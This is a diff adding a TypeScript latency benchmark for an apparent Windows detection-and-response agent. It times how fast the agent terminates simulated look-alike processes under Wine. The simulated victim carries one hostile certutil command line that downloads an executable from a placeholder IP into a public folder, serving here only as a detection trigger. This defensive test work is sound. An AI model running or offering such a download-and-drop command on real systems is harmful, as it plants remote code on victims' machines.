@@ -1,0 +1,166 @@
+import { mkdtempSync } from 'node:fs';
+import { hostname, tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { setTimeout as wait } from 'node:timers/promises';
+import { openEngine } from '../src/agent/engine.ts';
+import { openLiveResponse } from '../src/agent/response-desk.ts';
+import { type Config, loadConfig } from '../src/config/index.ts';
+import { type Action, type ProcessPort, ResponseStage } from '../src/response/index.ts';
+import { EtwSource } from '../src/source/etw.ts';
+import { Store } from '../src/store/index.ts';
+import { defaultFfi, ProcessControl } from '../src/windows/index.ts';
+import { DoubleScript } from '../test/windows/live/double-script.ts';
+import { LookAlike } from '../test/windows/live/look-alike.ts';
+import { openTestLibrary } from '../test/windows/live/open-test-library.ts';
+
+/**
+ * How long a flagged process lives after its start is in the library's ring: through reader thread, decoding,
+ * model, rules, guard and journal until TerminateProcess has returned and the process is gone. Real processes
+ * with their true identity, told by the double of ETW, one after the other; without evidence, then with it.
+ * `node test/windows/bench.ts response-live`, under Wine on Linux. PC_BENCH_VICTIMS: how many of each (120).
+ */
+const victims = Number(process.env['PC_BENCH_VICTIMS'] ?? 120);
+/** In the first ones the code is compiled and the reader thread starts. */
+const warmUp = 20;
+const spacingMs = 100;
+const patienceMs = 20_000;
+const attack = ['-urlcache', '-split', '-f', 'http://203.0.113.7/a.exe', 'c:\\users\\public\\a.exe'];
+/** Finer than the agent's own, whose outcomes are in whole milliseconds. */
+const clock = { nowMs: () => performance.timeOrigin + performance.now() };
+
+const library = await openTestLibrary(defaultFfi());
+const control = new ProcessControl(library);
+const etw = new DoubleScript('etw');
+
+await measure('without_evidence', null);
+await measure('with_evidence', mkdtempSync(join(tmpdir(), 'evidence-')));
+
+async function measure(name: string, evidenceFolder: string | null): Promise<void> {
+  const folder = mkdtempSync(join(tmpdir(), 'response-live-'));
+  const config = armed(join(folder, 'state.db'), evidenceFolder);
+  const ringMs = new Map<number, number>();
+  const ends = new Map<number, Action>();
+  const response = openLiveResponse({
+    config: () => config,
+    exceptions: () => engine.stages.exceptions.current,
+    library,
+    clock,
+    audience: {
+      action: (action) => void ends.set(action.subject.target?.pid ?? 0, action),
+      stoodDown: ({ reason }) => fail(`stood down: ${reason}`),
+      failed: (what, error) => fail(`${what}: ${String(error)}`),
+    },
+  });
+  const calls = new Map<number, { readonly calledMs: number; readonly returnedMs: number }>();
+  const stage = new ResponseStage({
+    ...response.parts,
+    control: observeTerminations(response.parts.control, calls),
+    // The victims are this program's children, which the agent would leave alone as its own.
+    own: () => ({ pid: 0, ancestorPids: new Set() }),
+  });
+  const store = Store.open(config.state.file!);
+  const engine = await openEngine(config, store, { explains: () => true, response: stage });
+  await stage.start();
+  const source = new EtwSource(
+    { library, host: { id: undefined, name: hostname() }, onNotice: () => undefined, clock },
+    (record, arrivalUs) => {
+      if (record.kind === 'start') ringMs.set(record.pid ?? 0, record.timeMs + arrivalUs / 1_000);
+    },
+  );
+  const stop = new AbortController();
+  const reading = (async () => {
+    for await (const batch of source.batches({ batchSize: 512, signal: stop.signal })) {
+      const outcome = await engine.pipeline.process(source.name, batch);
+      stage.learn(outcome);
+    }
+  })();
+  etw.say('running', process.pid, 4, 0, '\\Device\\HarddiskVolume3\\Windows\\explorer.exe', 'explorer.exe');
+  const delaysMs = { decided: [] as number[], called: [] as number[], ended: [] as number[] };
+  for (let index = 0; index < warmUp + victims; index++) {
+    const victim = new LookAlike('certutil.exe', attack);
+    try {
+      await victim.sayStart(etw, control);
+      for (const endMs = performance.now() + patienceMs; !ends.has(victim.pid); ) {
+        if (performance.now() > endMs) fail('a process was not acted on');
+        await wait(5);
+      }
+      const { atMs, end } = ends.get(victim.pid)!;
+      if (end?.result !== 'terminated') fail(`not ended but ${JSON.stringify(end)}`);
+      if (index < warmUp) continue;
+      const startMs = ringMs.get(victim.pid)!;
+      const { calledMs, returnedMs } = calls.get(victim.pid)!;
+      delaysMs.decided.push(atMs - startMs);
+      delaysMs.called.push(calledMs - startMs);
+      delaysMs.ended.push(returnedMs - startMs);
+    } finally {
+      victim.kill();
+      // A pid may come again.
+      ends.clear();
+      ringMs.clear();
+      calls.clear();
+    }
+    await wait(spacingMs);
+  }
+  stop.abort();
+  await reading;
+  await stage.settle();
+  response.close();
+  await engine.scorer.close();
+  store.close();
+  report(`${name}.processes`, delaysMs.ended.length, '');
+  for (const [what, values] of Object.entries(delaysMs)) {
+    const sorted = Float64Array.from(values).sort();
+    for (const part of [0.5, 0.9, 0.99]) {
+      report(`${name}.ring_to_${what}_p${part * 100}`, sorted[Math.floor(sorted.length * part)]!, 'ms');
+    }
+    report(`${name}.ring_to_${what}_max`, sorted.at(-1)!, 'ms');
+  }
+}
+
+/** Notes when a process's ending is asked of the library, and when TerminateProcess had returned there. */
+function observeTerminations(
+  port: ProcessPort,
+  calls: Map<number, { readonly calledMs: number; readonly returnedMs: number }>,
+): ProcessPort {
+  return {
+    query: (target) => port.query(target),
+    suspend: (target) => port.suspend(target),
+    resume: (target) => port.resume(target),
+    terminateTree: (target) => port.terminateTree(target),
+    tree: (target) => port.tree(target),
+    async terminate(target) {
+      const calledMs = clock.nowMs();
+      const result = await port.terminate(target);
+      // After the system call, the library waits for the process to be gone.
+      if (!('actMs' in result) || !('totalMs' in result)) fail('no times');
+      const waitedMs = Number(result.totalMs) - Number(result.actMs);
+      calls.set(target.pid, { calledMs, returnedMs: clock.nowMs() - waitedMs });
+      return result;
+    },
+  };
+}
+
+/** Terminates, with a budget that this many processes do not use up. */
+function armed(stateFile: string, evidenceFolder: string | null): Config {
+  const { config } = loadConfig({ env: {} });
+  const { response, state } = config;
+  return {
+    ...config,
+    state: { ...state, file: stateFile },
+    response: {
+      ...response,
+      mode: 'terminate',
+      budget: { perMinute: 1_000, perHour: 10_000, perUser: 10_000, perImage: 10_000 },
+      evidence: { ...response.evidence, folder: evidenceFolder },
+    },
+  };
+}
+
+function fail(why: string): never {
+  throw new Error(why);
+}
+
+function report(name: string, value: number, unit: string): void {
+  const rounded = Number.isInteger(value) ? value : Number(value.toPrecision(3));
+  process.stdout.write(`${JSON.stringify({ name: `response-live.${name}`, value: rounded, unit })}\n`);
+}
